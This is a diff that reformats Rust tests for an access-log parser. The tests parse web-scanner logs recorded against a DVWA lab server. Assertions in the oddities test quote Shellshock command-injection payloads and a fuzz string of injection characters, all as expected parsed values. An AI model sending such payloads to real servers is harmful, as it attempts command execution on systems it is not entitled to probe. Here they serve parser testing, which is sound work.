-            std::fs::read_to_string(dir.join(name)).unwrap_or_else(|e| panic!("{name}: {e}"));
+        let text = std::fs::read_to_string(dir.join(name)).unwrap_or_else(|e| panic!("{name}: {e}"));
         // Each line is wrapped in an extra pair of quotes, except 62 lines of w3af.txt that
         // were recorded without them; netsparker and w3af use CRLF endings.
         let lines = text
             .split('\n')
             .map(|line| line.strip_suffix('\r').unwrap_or(line))
             .filter(|line| !line.is_empty())
-            .map(
-                |line| match line.strip_prefix('"').and_then(|l| l.strip_suffix('"')) {
-                    Some(inner) => inner.to_owned(),
-                    None => line.to_owned(),
-                },
-            )
+            .map(|line| match line.strip_prefix('"').and_then(|l| l.strip_suffix('"')) {
+                Some(inner) => inner.to_owned(),
+                None => line.to_owned(),
+            })
             .collect();
         (name, lines)
     });
@@ -869,15 +630,8 @@ fn every_scan_log_line_parses_as_combined_without_error() {
             let parsed = parser.parse(line, name);
             assert_eq!(parsed.error, None, "{name}:{}: {line}", number + 1);
             let e = &parsed.event;
-            assert!(
-                !e.ip.is_empty() && !e.method.is_empty() && e.status_code >= 200,
-                "{name}:{}: {e:?}",
-                number + 1
-            );
-            assert!(
-                e.timestamp_ms > utc_ms("2016-12-22T00:00:00Z")
-                    && e.timestamp_ms < utc_ms("2016-12-23T00:00:00Z")
-            );
+            assert!(!e.ip.is_empty() && !e.method.is_empty() && e.status_code >= 200, "{name}:{}: {e:?}", number + 1);
+            assert!(e.timestamp_ms > utc_ms("2016-12-22T00:00:00Z") && e.timestamp_ms < utc_ms("2016-12-23T00:00:00Z"));
         }
         total += lines.len();
     }
@@ -886,37 +640,19 @@ fn every_scan_log_line_parses_as_combined_without_error() {
     let first = |file: usize| parser.parse(&files[file].1[0], "test").event;
     let e = first(0);
     assert_eq!(
-        (
-            e.ip.as_str(),
-            e.method.as_str(),
-            e.url.as_str(),
-            e.status_code,
-            e.bytes_sent
-        ),
+        (e.ip.as_str(), e.method.as_str(), e.url.as_str(), e.status_code, e.bytes_sent),
         ("192.168.4.25", "POST", "/administrator/index.php", 303, 382)
     );
     assert_eq!(e.timestamp_ms, utc_ms("2016-12-22T13:30:52Z"));
     assert_eq!(e.referer.as_deref(), Some("http://192.168.4.161/DVWA"));
     let e = first(1);
     assert_eq!(
-        (
-            e.ip.as_str(),
-            e.method.as_str(),
-            e.url.as_str(),
-            e.status_code,
-            e.bytes_sent
-        ),
+        (e.ip.as_str(), e.method.as_str(), e.url.as_str(), e.status_code, e.bytes_sent),
         ("192.168.4.164", "GET", "/DVWA/", 200, 2020)
     );
     let e = first(2);
     assert_eq!(
-        (
-            e.ip.as_str(),
-            e.method.as_str(),
-            e.url.as_str(),
-            e.status_code,
-            e.user_agent.as_str()
-        ),
+        (e.ip.as_str(), e.method.as_str(), e.url.as_str(), e.status_code, e.user_agent.as_str()),
         ("192.168.4.163", "GET", "/", 200, "w3af.org")
     );
 }
@@ -928,77 +664,39 @@ fn scan_log_oddities_parse_as_documented() {
     let parse = |line: &String| Parser::combined().parse(line, "test").event;
 
     // Shellshock payloads (all in the referer here): unescaped, and the user agent kept.
-    let shellshock: Vec<Event> = all
-        .iter()
-        .filter(|l| l.contains("() {"))
-        .map(|l| parse(l))
-        .collect();
+    let shellshock: Vec<Event> = all.iter().filter(|l| l.contains("() {")).map(|l| parse(l)).collect();
     assert_eq!(shellshock.len(), 52);
     for e in &shellshock {
         let payload = e.referer.as_deref().unwrap();
-        assert!(
-            payload.starts_with("() {") && !payload.contains("\\\""),
-            "{payload}"
-        );
-        assert!(
-            e.user_agent.starts_with("Mozilla/5.0 (Windows NT 6."),
-            "{}",
-            e.user_agent
-        );
+        assert!(payload.starts_with("() {") && !payload.contains("\\\""), "{payload}");
+        assert!(e.user_agent.starts_with("Mozilla/5.0 (Windows NT 6."), "{}", e.user_agent);
     }
-    assert!(shellshock.iter().any(|e| e.referer.as_deref()
-        == Some(r#"() { :;}; echo "NS:" $(/bin/sh -c "expr 268409241 - 2")"#)));
-    assert!(shellshock.iter().any(|e| {
-        e.referer
-            .as_deref()
-            .unwrap()
-            .contains(r#"echo -e "Content-Type: text/plain\n";"#)
-    }));
+    assert!(
+        shellshock
+            .iter()
+            .any(|e| e.referer.as_deref() == Some(r#"() { :;}; echo "NS:" $(/bin/sh -c "expr 268409241 - 2")"#))
+    );
+    assert!(
+        shellshock
+            .iter()
+            .any(|e| { e.referer.as_deref().unwrap().contains(r#"echo -e "Content-Type: text/plain\n";"#) })
+    );
 
     // The empty request `GET  HTTP/1.1` and the Netsparker custom method.
-    let empty = all
-        .iter()
-        .find(|l| l.contains("\"GET  HTTP/1.1\""))
-        .map(|l| parse(l))
-        .unwrap();
+    let empty = all.iter().find(|l| l.contains("\"GET  HTTP/1.1\"")).map(|l| parse(l)).unwrap();
     assert_eq!(
-        (
-            empty.method.as_str(),
-            empty.url.as_str(),
-            empty.status_code,
-            empty.user_agent.as_str()
-        ),
+        (empty.method.as_str(), empty.url.as_str(), empty.status_code, empty.user_agent.as_str()),
         ("GET", "", 400, "")
     );
-    let custom = all
-        .iter()
-        .find(|l| l.contains("\"NETSPARKER "))
-        .map(|l| parse(l))
-        .unwrap();
-    assert_eq!(
-        (custom.method.as_str(), custom.url.as_str()),
-        ("NETSPARKER", "/DVWA/")
-    );
+    let custom = all.iter().find(|l| l.contains("\"NETSPARKER ")).map(|l| parse(l)).unwrap();
+    assert_eq!((custom.method.as_str(), custom.url.as_str()), ("NETSPARKER", "/DVWA/"));
 
     // Escaped quotes, backslashes and UTF-8 bytes inside a request target.
-    let fuzz = all
-        .iter()
-        .find(|l| l.contains(r"\xf0\x9f\x92\xa9"))
-        .map(|l| parse(l))
-        .unwrap();
-    assert!(
-        fuzz.url
-            .contains("12345'\"\\'\\\");|]*%00{%0d%0a<%00>%bf%27'\u{1F4A9}"),
-        "{}",
-        fuzz.url
-    );
+    let fuzz = all.iter().find(|l| l.contains(r"\xf0\x9f\x92\xa9")).map(|l| parse(l)).unwrap();
+    assert!(fuzz.url.contains("12345'\"\\'\\\");|]*%00{%0d%0a<%00>%bf%27'\u{1F4A9}"), "{}", fuzz.url);
 
     // w3af's authenticated crawl keeps its user.
-    let admin = all
-        .iter()
-        .find(|l| l.contains(" - admin ["))
-        .map(|l| parse(l))
-        .unwrap();
+    let admin = all.iter().find(|l| l.contains(" - admin [")).map(|l| parse(l)).unwrap();
     assert_eq!(admin.fields.get("user"), Some(&json!("admin")));
 }
 
